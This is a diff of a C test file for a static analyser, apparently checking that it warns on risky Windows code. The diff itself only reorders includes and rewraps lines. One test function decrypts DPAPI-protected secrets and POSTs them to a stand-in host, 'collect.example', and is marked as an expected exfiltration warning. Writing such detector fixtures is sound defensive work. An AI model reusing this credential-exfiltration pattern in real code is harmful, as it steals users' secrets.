@@ -1,10 +1,12 @@
 /* The rules on Windows, told while compiling: the same as elsewhere, by models alone. */
+/* before all others: */
 #include <winsock2.h>
-#include <ws2tcpip.h>
-#include <windows.h>
-#include <wincred.h>
-#include <wininet.h>
+
 #include <urlmon.h>
+#include <wincred.h>
+#include <windows.h>
+#include <wininet.h>
+#include <ws2tcpip.h>
 
 static int connected(SOCKET out, const char *host) {
     struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
@@ -38,8 +40,8 @@ int bad_unsealed(DATA_BLOB *sealed) {
     if (!CryptUnprotectData(sealed, NULL, NULL, NULL, NULL, 0, &clear))
         return -1;
     HINTERNET session = InternetOpenA("agent", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
-    HINTERNET to = InternetConnectA(session, "collect.example", 80, NULL, NULL,
-                                    INTERNET_SERVICE_HTTP, 0, 0);
+    HINTERNET to =
+        InternetConnectA(session, "collect.example", 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
     HINTERNET request = HttpOpenRequestA(to, "POST", "/in", NULL, NULL, NULL, 0, 0);
     // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
     return HttpSendRequestA(request, NULL, 0, clear.pbData, clear.cbData);
@@ -93,8 +95,8 @@ int bad_download(void) {
 
 /* What is fetched is shown, and what is run is the program's own. */
 int good_download(void) {
-    if (URLDownloadToFileA(NULL, "http://updates.example/news.txt", "C:\\Windows\\Temp\\news.txt", 0,
-                           NULL))
+    if (URLDownloadToFileA(NULL, "http://updates.example/news.txt", "C:\\Windows\\Temp\\news.txt",
+                           0, NULL))
         return -1;
     return WinExec("C:\\Windows\\notepad.exe", SW_SHOW) > 31;
 }
